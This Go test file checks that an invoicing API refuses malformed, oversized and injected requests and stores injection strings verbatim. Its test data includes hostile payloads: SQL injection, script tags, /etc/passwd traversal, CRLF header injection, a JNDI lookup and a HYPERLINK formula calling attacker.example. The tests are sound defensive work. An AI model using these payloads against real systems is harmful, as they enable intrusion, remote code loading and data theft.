package httpapi_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// catalogueCasesMin is the least number of refused requests the bad-input catalogue must
// hold (issue "Reliability and security suite", bad-input catalogue).
const catalogueCasesMin = 60

// badRequest is one refused request of the catalogue: what is sent, and the exact status,
// error code and field of the answer.
type badRequest struct {
	name    string
	method  string // POST unless set
	path    string
	body    string
	headers []string
	status  int
	code    string
	field   string
}

// TestBadInputCatalogue sends every request of the catalogue to a real server over the
// embedded store. Each is refused with its exact status, machine-readable code and field, a
// human message, the API's JSON error shape, and the log's head does not move. The
// catalogue must hold at least catalogueCasesMin cases.
func TestBadInputCatalogue(t *testing.T) {
	h := newHarness(t)
	h.mustPost("/v1/customers", customerBody("ACME", "EUR", 5_000_000))
	h.mustPost("/v1/customers", customerBody("BETA", "EUR", 5_000_000))
	h.mustPost("/v1/invoices", invoiceBody("ACME", "I1", 100_000))
	h.mustPost("/v1/invoices", invoiceBody("BETA", "B1", 100_000))
	h.mustPost("/v1/payments", obj("customer_id", "ACME", "payment_id", "P1", "amount", 1_000, "currency", "EUR", "received_on", "2026-02-10"))
	h.mustPost("/v1/invoices/I1/dispute", obj("reason", "damaged"))
	h.mustPost("/v1/invoices", invoiceBody("ACME", "I2", 50_000))

	cases := catalogue()
	require.GreaterOrEqual(t, len(cases), catalogueCasesMin, "the catalogue holds %d cases", len(cases))
	names := map[string]bool{}
	for _, tc := range cases {
		require.False(t, names[tc.name], "case %q twice", tc.name)
		names[tc.name] = true
		t.Run(tc.name, func(t *testing.T) {
			before := h.head()
			r := h.do(cmpOr(tc.method, http.MethodPost), tc.path, []byte(tc.body), tc.headers...)
			assert.Equal(t, tc.status, r.status, "body %s", r.body)
			var b struct {
				Error struct {
					Code, Message, Field string
				} `json:"error"`
			}
			require.NoError(t, json.Unmarshal(r.body, &b), "body %s", r.body)
			assert.Equal(t, tc.code, b.Error.Code, "body %s", r.body)
			assert.Equal(t, tc.field, b.Error.Field, "body %s", r.body)
			assert.NotEmpty(t, b.Error.Message, "a human message")
			assert.Equal(t, before, h.head(), "a refused request appends nothing")
			assert.Equal(t, "application/json; charset=utf-8", r.header.Get("Content-Type"))
		})
	}
	t.Logf("%d bad requests refused, each with its status and code", len(cases))

	t.Run("method not allowed", func(t *testing.T) {
		r := h.do(http.MethodDelete, "/v1/invoices", nil)
		assert.Equal(t, http.StatusMethodNotAllowed, r.status)
		code, _ := r.errorCode(t)
		assert.Equal(t, "method_not_allowed", code)
		assert.Contains(t, r.header.Get("Allow"), "POST")
	})
}

func cmpOr(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// catalogue is the table of refused requests, against the fixture of TestBadInputCatalogue:
// customers ACME and BETA (EUR), invoices I1 (ACME, 100 000, disputed), I2 (ACME, 50 000,
// number N-I2) and B1 (BETA), payment P1 of 1 000 on ACME's account.
func catalogue() []badRequest {
	invoice := func(kv ...any) string { // an invoice for ACME with fields replaced, added or (nil) removed
		base := map[string]any{"customer_id": "ACME", "invoice_id": "I9", "number": "N9", "amount": json.RawMessage("1000"),
			"currency": "EUR", "issue_date": "2026-01-05", "due_date": "2026-02-04"}
		order := []string{"customer_id", "invoice_id", "number", "amount", "currency", "issue_date", "due_date"}
		for i := 0; i+1 < len(kv); i += 2 {
			k := kv[i].(string)
			if _, ok := base[k]; !ok {
				order = append(order, k)
			}
			base[k] = kv[i+1]
		}
		var out []any
		for _, k := range order {
			if base[k] == nil {
				continue
			}
			out = append(out, k, base[k])
		}
		return obj(out...)
	}
	payment := func(allocs string) string {
		return obj("customer_id", "ACME", "payment_id", "P9", "amount", 500_000, "currency", "EUR",
			"received_on", "2026-02-10", "allocations", json.RawMessage(allocs))
	}
	paymentWith := func(kv ...any) string {
		base := []any{"customer_id", "ACME", "payment_id", "P9", "amount", 500, "currency", "EUR", "received_on", "2026-02-10"}
		for i := 0; i+1 < len(kv); i += 2 {
			for j := 0; j+1 < len(base); j += 2 {
				if base[j] == kv[i] {
					base[j+1] = kv[i+1]
				}
			}
		}
		return obj(base...)
	}
	raw := func(s string) json.RawMessage { return json.RawMessage(s) }
	long := strings.Repeat("x", 129) // one byte above the id limit
	ctype := func(v string) []string { return []string{"Content-Type", v} }

	return []badRequest{
		// Malformed JSON.
		{name: "malformed JSON", path: "/v1/invoices", body: `{"customer_id":`, status: 400, code: "invalid_json"},
		{name: "not an object", path: "/v1/invoices", body: `[1,2]`, status: 400, code: "invalid_json"},
		{name: "a bare string", path: "/v1/invoices", body: `"ACME"`, status: 400, code: "invalid_json"},
		{name: "JSON null body", path: "/v1/invoices", body: `null`, status: 400, code: "missing_field", field: "amount"},
		{name: "data after the object", path: "/v1/invoices", body: invoice() + ` {}`, status: 400, code: "invalid_json"},
		{name: "trailing comma", path: "/v1/invoices", body: strings.TrimSuffix(invoice(), "}") + `,}`, status: 400, code: "invalid_json"},
		{name: "single quotes", path: "/v1/invoices", body: `{'customer_id':'ACME'}`, status: 400, code: "invalid_json"},
		{name: "unquoted key", path: "/v1/invoices", body: `{customer_id:"ACME"}`, status: 400, code: "invalid_json"},
		{name: "NaN amount", path: "/v1/invoices", body: strings.Replace(invoice(), `"amount":1000`, `"amount":NaN`, 1), status: 400, code: "invalid_json"},

		// Unknown and missing fields.
		{name: "unknown field", path: "/v1/invoices", body: invoice("colour", "red"), status: 400, code: "unknown_field", field: "colour"},
		{name: "field name in another case", path: "/v1/invoices", body: invoice("Amount", 5), status: 400, code: "unknown_field", field: "Amount"},
		{name: "unknown field in an allocation", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":1,"note":"x"}]`), status: 400, code: "unknown_field", field: "note"},
		{name: "missing amount", path: "/v1/invoices", body: invoice("amount", nil), status: 400, code: "missing_field", field: "amount"},
		{name: "null amount", path: "/v1/invoices", body: invoice("amount", raw("null")), status: 400, code: "missing_field", field: "amount"},
		{name: "missing currency", path: "/v1/invoices", body: invoice("currency", nil), status: 400, code: "missing_field", field: "currency"},
		{name: "missing customer", path: "/v1/invoices", body: invoice("customer_id", nil), status: 400, code: "missing_field", field: "customer_id"},
		{name: "empty customer id", path: "/v1/invoices", body: invoice("customer_id", ""), status: 400, code: "missing_field", field: "customer_id"},
		{name: "missing number", path: "/v1/invoices", body: invoice("number", nil), status: 400, code: "missing_field", field: "number"},
		{name: "missing issue date", path: "/v1/invoices", body: invoice("issue_date", nil), status: 400, code: "missing_field", field: "issue_date"},
		{name: "missing terms", path: "/v1/customers", body: obj("id", "NEW", "name", "n", "country", "FR", "currency", "EUR", "credit_limit", 1), status: 400, code: "missing_field", field: "terms_days"},
		{name: "empty body where fields are required", path: "/v1/payments", body: ``, status: 400, code: "missing_field", field: "currency"},
		{name: "the same field twice", path: "/v1/invoices", body: strings.TrimSuffix(invoice(), "}") + `,"amount":5}`, status: 400, code: "invalid_json", field: "amount"},
		{name: "the same field twice in an allocation", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":1,"amount":2}]`), status: 400, code: "invalid_json", field: "amount"},
		{name: "field name in another case in an allocation", path: "/v1/payments", body: payment(`[{"Invoice_ID":"I2","amount":1}]`), status: 400, code: "unknown_field", field: "Invoice_ID"},

		// Wrong types.
		{name: "string amount", path: "/v1/invoices", body: invoice("amount", "1000"), status: 400, code: "invalid_field", field: "amount"},
		{name: "boolean amount", path: "/v1/invoices", body: invoice("amount", true), status: 400, code: "invalid_field", field: "amount"},
		{name: "list amount", path: "/v1/invoices", body: invoice("amount", raw("[1000]")), status: 400, code: "invalid_field", field: "amount"},
		{name: "object amount", path: "/v1/invoices", body: invoice("amount", raw(`{"amount":1,"currency":"EUR"}`)), status: 400, code: "invalid_field", field: "amount"},
		{name: "number where a string goes", path: "/v1/invoices", body: invoice("number", raw("42")), status: 400, code: "invalid_field", field: "number"},
		{name: "number as customer id", path: "/v1/invoices", body: invoice("customer_id", raw("7")), status: 400, code: "invalid_field", field: "customer_id"},
		{name: "allocations not a list", path: "/v1/payments", body: payment(`5`), status: 400, code: "invalid_field", field: "allocations"},
		{name: "allocation not an object", path: "/v1/payments", body: payment(`["I2"]`), status: 400, code: "invalid_field", field: "allocations"},
		{name: "float amount", path: "/v1/invoices", body: invoice("amount", raw("1000.5")), status: 400, code: "invalid_field", field: "amount"},
		{name: "float amount with zero fraction", path: "/v1/invoices", body: invoice("amount", raw("1000.0")), status: 400, code: "invalid_field", field: "amount"},
		{name: "exponent amount", path: "/v1/invoices", body: invoice("amount", raw("1e3")), status: 400, code: "invalid_field", field: "amount"},
		{name: "float allocation amount", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":1.5}]`), status: 400, code: "invalid_field", field: "allocations[0].amount"},
		{name: "float credit limit", path: "/v1/customers", body: strings.Replace(customerBody("NEW", "EUR", 1), `"credit_limit":1`, `"credit_limit":1.5`, 1), status: 400, code: "invalid_field", field: "credit_limit"},
		{name: "string terms", path: "/v1/customers", body: strings.Replace(customerBody("NEW", "EUR", 1), `"terms_days":30`, `"terms_days":"30"`, 1), status: 400, code: "invalid_field", field: "terms_days"},

		// Zero, negative and overflowing amounts.
		{name: "zero amount", path: "/v1/invoices", body: invoice("amount", raw("0")), status: 422, code: "amount_not_positive", field: "amount"},
		{name: "negative amount", path: "/v1/invoices", body: invoice("amount", raw("-5")), status: 422, code: "amount_not_positive", field: "amount"},
		{name: "most negative int64 amount", path: "/v1/invoices", body: invoice("amount", raw("-9223372036854775808")), status: 422, code: "amount_not_positive", field: "amount"},
		{name: "overflowing amount", path: "/v1/invoices", body: invoice("amount", raw("9223372036854775808")), status: 400, code: "amount_overflow", field: "amount"},
		{name: "overflowing negative amount", path: "/v1/invoices", body: invoice("amount", raw("-9223372036854775809")), status: 400, code: "amount_overflow", field: "amount"},
		{name: "hundred-digit amount", path: "/v1/invoices", body: invoice("amount", raw(strings.Repeat("9", 100))), status: 400, code: "amount_overflow", field: "amount"},
		{name: "negative payment", path: "/v1/payments", body: paymentWith("amount", -1), status: 422, code: "amount_not_positive", field: "amount"},
		{name: "zero payment", path: "/v1/payments", body: paymentWith("amount", 0), status: 422, code: "amount_not_positive", field: "amount"},
		{name: "zero allocation", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":0}]`), status: 422, code: "amount_not_positive", field: "allocations[0].amount"},
		{name: "overflowing allocation", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":99999999999999999999}]`), status: 400, code: "amount_overflow", field: "allocations[0].amount"},
		{name: "negative credit limit", path: "/v1/customers/ACME/credit-limit", body: obj("amount", -1), status: 422, code: "amount_negative", field: "amount"},
		{name: "allocations above the payment", path: "/v1/payments", body: obj("customer_id", "ACME", "payment_id", "P9", "amount", 10, "currency", "EUR", "received_on", "2026-02-10", "allocations", raw(`[{"invoice_id":"I2","amount":20}]`)), status: 422, code: "allocation_exceeds_payment", field: "allocations"},

		// Currencies.
		{name: "unknown currency", path: "/v1/invoices", body: invoice("currency", "XYZ"), status: 400, code: "unknown_currency", field: "currency"},
		{name: "lower-case currency", path: "/v1/invoices", body: invoice("currency", "eur"), status: 400, code: "unknown_currency", field: "currency"},
		{name: "currency mismatch on an invoice", path: "/v1/invoices", body: invoice("currency", "USD"), status: 422, code: "currency_mismatch", field: "currency"},
		{name: "currency mismatch on a payment", path: "/v1/payments", body: paymentWith("currency", "GBP"), status: 422, code: "currency_mismatch", field: "currency"},
		{name: "currency mismatch on a credit note", path: "/v1/credit-notes", body: obj("customer_id", "ACME", "credit_note_id", "CN9", "amount", 10, "currency", "CHF", "issue_date", "2026-02-01"), status: 422, code: "currency_mismatch", field: "currency"},

		// Dates.
		{name: "impossible date", path: "/v1/invoices", body: invoice("issue_date", "2026-02-30"), status: 400, code: "invalid_date", field: "issue_date"},
		{name: "29 February of a common year", path: "/v1/invoices", body: invoice("issue_date", "2026-02-29"), status: 400, code: "invalid_date", field: "issue_date"},
		{name: "date in another format", path: "/v1/invoices", body: invoice("due_date", "04/02/2026"), status: 400, code: "invalid_date", field: "due_date"},
		{name: "date without padding", path: "/v1/invoices", body: invoice("due_date", "2026-2-4"), status: 400, code: "invalid_date", field: "due_date"},
		{name: "date with a time", path: "/v1/invoices", body: invoice("due_date", "2026-02-04T00:00:00Z"), status: 400, code: "invalid_date", field: "due_date"},
		{name: "date as a number", path: "/v1/invoices", body: invoice("due_date", raw("20260204")), status: 400, code: "invalid_field", field: "due_date"},
		{name: "invalid payment date", path: "/v1/payments", body: paymentWith("received_on", "yesterday"), status: 400, code: "invalid_date", field: "received_on"},
		{name: "due before issue", path: "/v1/invoices", body: invoice("due_date", "2026-01-04"), status: 422, code: "due_before_issue", field: "due_date"},

		// Unknown things and other customers' things.
		{name: "unknown customer", path: "/v1/invoices", body: invoice("customer_id", "NOPE"), status: 404, code: "unknown_customer", field: "customer_id"},
		{name: "payment of an unknown customer", path: "/v1/payments", body: paymentWith("customer_id", "NOPE"), status: 404, code: "unknown_customer", field: "customer_id"},
		{name: "unknown customer by path", path: "/v1/customers/NOPE/ratings", body: obj("agency", "x", "score", 1), status: 404, code: "unknown_customer", field: "customer_id"},
		{name: "unknown invoice by path", path: "/v1/invoices/NOPE/dispute", body: `{}`, status: 404, code: "unknown_invoice", field: "invoice_id"},
		{name: "unknown payment by path", path: "/v1/payments/NOPE/reversal", body: `{}`, status: 404, code: "unknown_payment", field: "payment_id"},
		{name: "allocation to an unknown invoice", path: "/v1/payments", body: payment(`[{"invoice_id":"NOPE","amount":1}]`), status: 404, code: "unknown_invoice", field: "allocations[0].invoice_id"},
		{name: "allocation to another customer's invoice", path: "/v1/payments", body: payment(`[{"invoice_id":"B1","amount":1}]`), status: 404, code: "unknown_invoice", field: "allocations[0].invoice_id"},
		{name: "allocation above the open amount", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":50001}]`), status: 409, code: "allocation_exceeds_open_amount", field: "allocations[0].amount"},
		{name: "allocation to the same invoice twice", path: "/v1/payments", body: payment(`[{"invoice_id":"I2","amount":1},{"invoice_id":"I2","amount":1}]`), status: 422, code: "duplicate_allocation", field: "allocations[1].invoice_id"},
		{name: "later allocation above the cash on account", path: "/v1/payments/P1/allocations", body: obj("allocations", raw(`[{"invoice_id":"I2","amount":1001}]`)), status: 409, code: "allocation_exceeds_unallocated_cash", field: "allocations"},
		{name: "credit note dated before its invoice", path: "/v1/credit-notes", body: obj("customer_id", "ACME", "credit_note_id", "CN9", "invoice_id", "I2", "amount", 10, "currency", "EUR", "issue_date", "2026-01-04"), status: 422, code: "date_before_issue", field: "issue_date"},

		// Duplicates and states.
		{name: "duplicate invoice", path: "/v1/invoices", body: invoice("invoice_id", "I2", "number", "other"), status: 409, code: "duplicate_invoice", field: "invoice_id"},
		{name: "invoice id of another customer", path: "/v1/invoices", body: invoice("invoice_id", "B1", "number", "other"), status: 409, code: "duplicate_invoice", field: "invoice_id"},
		{name: "duplicate invoice number", path: "/v1/invoices", body: invoice("number", "N-I2"), status: 409, code: "duplicate_invoice_number", field: "number"},
		{name: "duplicate payment", path: "/v1/payments", body: paymentWith("payment_id", "P1"), status: 409, code: "duplicate_payment", field: "payment_id"},
		{name: "duplicate customer", path: "/v1/customers", body: customerBody("ACME", "EUR", 1), status: 409, code: "customer_exists", field: "id"},
		{name: "dispute a disputed invoice", path: "/v1/invoices/I1/dispute", body: obj("reason", "again"), status: 409, code: "already_disputed", field: "invoice_id"},
		{name: "resolve an undisputed invoice", path: "/v1/invoices/I2/dispute-resolution", body: obj("outcome", "rejected"), status: 409, code: "not_disputed", field: "invoice_id"},

		// Ranges of other fields.
		{name: "rating above 100", path: "/v1/customers/ACME/ratings", body: obj("agency", "x", "score", 101), status: 422, code: "rating_out_of_range", field: "score"},
		{name: "reminder level 10", path: "/v1/customers/ACME/reminders", body: obj("invoice_id", "I2", "level", 10, "channel", "email"), status: 400, code: "invalid_field", field: "level"},
		{name: "reminder by pigeon", path: "/v1/customers/ACME/reminders", body: obj("invoice_id", "I2", "level", 1, "channel", "pigeon"), status: 400, code: "invalid_field", field: "channel"},
		{name: "negative terms", path: "/v1/customers", body: strings.Replace(customerBody("NEW", "EUR", 1), `"terms_days":30`, `"terms_days":-1`, 1), status: 400, code: "invalid_terms", field: "terms_days"},
		{name: "name of 201 characters", path: "/v1/customers", body: obj("id", "NEW", "name", strings.Repeat("é", 201), "country", "FR", "currency", "EUR", "terms_days", 30, "credit_limit", 1), status: 400, code: "invalid_field", field: "name"},
		{name: "reason of 1001 characters", path: "/v1/invoices/I2/dispute", body: obj("reason", strings.Repeat("r", 1001)), status: 400, code: "invalid_field", field: "reason"},

		// Bodies and headers.
		{name: "body too large", path: "/v1/invoices", body: invoice("number", strings.Repeat("x", 1<<20)), status: 413, code: "body_too_large"},
		{name: "body at the limit is read", path: "/v1/invoices", body: `{"number":"` + strings.Repeat("x", 1<<20-13) + `"}`, status: 400, code: "missing_field", field: "amount"},
		{name: "body one byte too large", path: "/v1/invoices", body: `{"number":"` + strings.Repeat("x", 1<<20-12) + `"}`, status: 413, code: "body_too_large"},
		{name: "wrong content type", path: "/v1/invoices", body: invoice(), headers: ctype("text/plain"), status: 415, code: "unsupported_media_type"},
		{name: "form content type", path: "/v1/invoices", body: invoice(), headers: ctype("application/x-www-form-urlencoded"), status: 415, code: "unsupported_media_type"},
		{name: "multipart content type", path: "/v1/invoices", body: invoice(), headers: ctype("multipart/form-data; boundary=x"), status: 415, code: "unsupported_media_type"},
		{name: "no content type", path: "/v1/invoices", body: invoice(), headers: ctype(""), status: 415, code: "unsupported_media_type"},
		{name: "other charset", path: "/v1/invoices", body: invoice(), headers: ctype("application/json; charset=latin1"), status: 415, code: "unsupported_media_type"},
		{name: "invalid UTF-8", path: "/v1/invoices", body: strings.Replace(invoice("number", "N-UTF8"), "-UTF8", "\xff", 1), status: 400, code: "invalid_utf8"},
		{name: "overlong UTF-8 encoding of a slash", path: "/v1/invoices", body: strings.Replace(invoice("number", "N-UTF8"), "-UTF8", "\xc0\xaf", 1), status: 400, code: "invalid_utf8"},
		{name: "UTF-16 surrogate bytes", path: "/v1/invoices", body: strings.Replace(invoice("number", "N-UTF8"), "-UTF8", "\xed\xa0\x80", 1), status: 400, code: "invalid_utf8"},
		{name: "idempotency key with spaces", path: "/v1/invoices", body: invoice(), headers: []string{"Idempotency-Key", "a b"}, status: 400, code: "invalid_header", field: "Idempotency-Key"},
		{name: "idempotency key of 256 bytes", path: "/v1/invoices", body: invoice(), headers: []string{"Idempotency-Key", strings.Repeat("k", 256)}, status: 400, code: "invalid_header", field: "Idempotency-Key"},

		// Path-like, oversized and injected ids.
		{name: "invalid invoice id", path: "/v1/invoices", body: invoice("invoice_id", "I 9"), status: 400, code: "invalid_id", field: "invoice_id"},
		{name: "path-like invoice id", path: "/v1/invoices", body: invoice("invoice_id", "../../etc/passwd"), status: 400, code: "invalid_id", field: "invoice_id"},
		{name: "path-like customer id", path: "/v1/customers", body: customerBody("a/b", "EUR", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "backslash in an id", path: "/v1/customers", body: customerBody(`..\..\x`, "EUR", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "NUL in an id", path: "/v1/customers", body: customerBody("AC\x00ME", "EUR", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "id of 129 bytes", path: "/v1/customers", body: customerBody(long, "EUR", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "SQL injection as an id", path: "/v1/customers", body: customerBody("x'; DROP TABLE customers; --", "EUR", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "script as an id", path: "/v1/invoices", body: invoice("invoice_id", "<script>alert(1)</script>"), status: 400, code: "invalid_id", field: "invoice_id"},
		{name: "invalid id in path", path: "/v1/invoices/I%201/dispute", body: `{}`, status: 400, code: "invalid_id", field: "id"},
		{name: "escaped slashes in a path id", path: "/v1/invoices/..%2F..%2Fetc/dispute", body: `{}`, status: 400, code: "invalid_id", field: "id"},
		{name: "id of 129 bytes in path", path: "/v1/customers/" + long + "/ratings", body: obj("agency", "x", "score", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "unicode id in path", path: "/v1/customers/%C3%89TOILE/ratings", body: obj("agency", "x", "score", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "unknown route", path: "/v1/nothing", body: `{}`, status: 404, code: "route_not_found"},
		{name: "NUL in a path id", path: "/v1/customers/AC%00ME/ratings", body: obj("agency", "x", "score", 1), status: 400, code: "invalid_id", field: "id"},
		{name: "CR LF in a text field", path: "/v1/invoices", body: invoice("number", "N\r\nSet-Cookie: session=stolen"), status: 400, code: "invalid_field", field: "number"},
		{name: "NUL in a reason", path: "/v1/invoices/I2/dispute", body: obj("reason", "a\x00b"), status: 400, code: "invalid_field", field: "reason"},
		{name: "DEL in a name", path: "/v1/customers", body: obj("id", "NEW", "name", "a\x7fb", "country", "FR", "currency", "EUR", "terms_days", 30, "credit_limit", 1), status: 400, code: "invalid_field", field: "name"},
	}
}

// Injection strings in free-text fields are facts like any other: stored verbatim and read
// back identical, through the customer's events and the whole log.
func TestInjectionStringsStoredVerbatim(t *testing.T) {
	h := newHarness(t)
	injections := []string{
		`<script>alert("x")</script>`,
		`'; DROP TABLE customers; --`,
		`" OR "1"="1`,
		`{{7*7}} ${7*7} #{7*7}`,
		`${jndi:ldap://attacker.example/a}`,
		`../../../../etc/passwd`,
		`%00%2e%2e%2f`,
		"right\u202eto-left override",
		`=HYPERLINK("http://attacker.example","x")`,
		`\u0000 \" \\ /`,
		"emoji 🧾 and ünïcödé, zero\u200bwidth",
	}
	h.mustPost("/v1/customers", obj("id", "INJ", "name", injections[0], "country", "FR", "sector", injections[1],
		"segment", "sme", "currency", "EUR", "terms_days", 30, "credit_limit", 1_000_000))
	for i, s := range injections {
		h.mustPost("/v1/invoices", obj("customer_id", "INJ", "invoice_id", fmt.Sprintf("INJ-%d", i), "number", s,
			"amount", 100, "currency", "EUR", "issue_date", "2026-01-05", "due_date", "2026-02-04"))
		h.mustPost(fmt.Sprintf("/v1/invoices/INJ-%d/dispute", i), obj("reason", s))
	}
	var page struct {
		Events []struct {
			Type string `json:"type"`
			Data struct {
				Name, Sector, Number, Reason string
			} `json:"data"`
		} `json:"events"`
	}
	r := h.get("/v1/customers/INJ/events?limit=1000")
	require.Equal(t, http.StatusOK, r.status, "%s", r.body)
	r.decode(t, &page)
	require.Len(t, page.Events, 1+2*len(injections))
	assert.Equal(t, injections[0], page.Events[0].Data.Name)
	assert.Equal(t, injections[1], page.Events[0].Data.Sector)
	for i, s := range injections {
		assert.Equal(t, s, page.Events[1+2*i].Data.Number, "invoice number %d", i)
		assert.Equal(t, s, page.Events[2+2*i].Data.Reason, "dispute reason %d", i)
	}
	// The answer is JSON, never HTML: a browser will not run the script.
	assert.Equal(t, "application/json; charset=utf-8", r.header.Get("Content-Type"))
	assert.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
	assert.NotContains(t, string(r.body), "<script>", "JSON escapes < and >")
}
